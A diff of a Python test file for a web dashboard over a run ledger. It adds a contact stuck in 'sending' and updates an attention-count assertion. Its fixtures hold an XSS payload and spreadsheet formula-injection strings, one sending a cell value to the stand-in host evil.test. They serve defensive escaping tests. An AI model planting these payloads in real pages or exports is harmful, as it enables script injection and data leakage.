@@ -35,6 +35,7 @@ SECRET = "secret_dag"
 XSS = "<img src=x onerror=alert(1)>"
 FORMULAS = ('=HYPERLINK("http://evil.test/?"&A1,"x")', "+1+2", "-2+3", "@SUM(1)", "\tcmd", "\r=1")
 SCOPE, OLD = Scope("https://acme.altcraft.test", 7), Scope("https://acme.altcraft.test", 99)
+DIED = Scope("https://acme.altcraft.test", 8)
 ONCE = RelaunchPolicy.parse("once")
 USERS = {"admin": "admin-pw", "viewer": "viewer-pw", RESTRICTED: "restricted-pw"}
 
@@ -49,7 +50,8 @@ def _admin(statement: str) -> None:
 def _fill(ledger: Ledger) -> None:
     """Both DAGs' run ``r1`` with hostile reasons and source keys (``secret_dag``'s settled just now, an
     hour after ``open_dag``'s); a contact both DAGs sent; and an uncertain contact of another scenario
-    whose only outcome is 40 days old."""
+    whose only outcome is 40 days old; a contact of another scenario that a try of ``open_dag``'s run left
+    ``sending``."""
     now = datetime.now(UTC)
     for dag_id, at in ((READABLE, now - timedelta(hours=1)), (SECRET, now)):  # uncertain: for long, just now
         run = RunRef.create(dag_id, "import_and_launch", "r1", 1)
@@ -75,6 +77,10 @@ def _fill(ledger: Ledger) -> None:
             claim,
             {k: Settlement(outcome, code=5, text=f"text of {dag_id}") for k in claim.to_send},
         )
+    # a contact that a try of open_dag's r1 claimed and died sending: no outcome row, still `sending`
+    ledger.claim(
+        DIED, RunRef.create(READABLE, "import_and_launch", "r1", 1), [("email:died@example.org", "d")], ONCE
+    )
     old, then = RunRef.create(READABLE, "import_and_launch", "old", 1), now - timedelta(days=40)
     claim = ledger.claim(OLD, old, [("email:old@example.org", "old row")], ONCE, now=then)
     ledger.settle(
@@ -293,10 +299,11 @@ def attention(html: str) -> dict[str, int]:
     return {status: int(n) for n, status in re.findall(r'data-attention="\w+">(\d+) (\w+)<', html)}
 
 
-def test_a_run_with_uncertain_or_failed_contacts_never_looks_clean(page):
+def test_a_run_with_uncertain_sending_or_failed_contacts_never_looks_clean(page):
     run = page.get("/run", **RUN).text
     alert = run.split('id="attention"', 1)[1].split("</p>", 1)[0]
-    assert attention(alert) == {"uncertain": 2, "failed": 4}  # now: with the shared one secret_dag failed
+    # now: with the shared one secret_dag failed, and the one a try died sending
+    assert attention(alert) == {"uncertain": 2, "sending": 1, "failed": 4}
     assert "may or may not have launched" in alert
     row = page.get("/").text.split(f'data-dag="{READABLE}"', 1)[1].split("</tr>", 1)[0]
     assert 'state-success">success' in row and attention(row) == {"uncertain": 2, "failed": 3}  # its last run
